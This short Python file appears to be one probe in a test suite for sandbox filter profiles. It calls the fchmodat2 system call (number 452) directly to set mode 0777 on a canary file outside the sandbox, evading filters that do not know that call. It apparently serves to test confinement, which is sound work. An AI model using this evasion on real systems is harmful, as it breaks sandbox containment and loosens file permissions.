"""Changes the mode of a file outside by fchmodat2, a system call that older filters do not know.

Seen: the file has another mode.
Stopped at: strict, standard.
Works: where the kernel has fchmodat2.
Verdict: raised.
"""
import ctypes
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(452, -100, target.canary.encode(), 0o777, 0):
        raise OSError(ctypes.get_errno(), "fchmodat2")
